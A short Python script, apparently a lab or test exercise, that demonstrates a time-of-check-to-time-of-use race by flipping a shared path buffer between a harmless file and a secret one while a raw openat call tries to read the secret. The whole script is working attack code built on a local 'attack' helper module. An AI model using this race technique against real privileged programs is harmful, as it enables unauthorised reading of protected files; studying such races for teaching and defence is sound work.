"""The path changes between the check of an open and the open."""

import os

from attack import AT_FDCWD, SECRET_WORD, WORLD, Shared, race, syscall, tries

path = Shared(b"data/good.txt", WORLD.secret.encode())


def strike() -> bool:
    """Open whatever the path says now."""
    number = syscall("openat", AT_FDCWD, path.address, os.O_RDONLY, 0)
    with open(number, "rb") as file:
        return file.read().startswith(SECRET_WORD)


with tries():
    race(path.flip, strike)
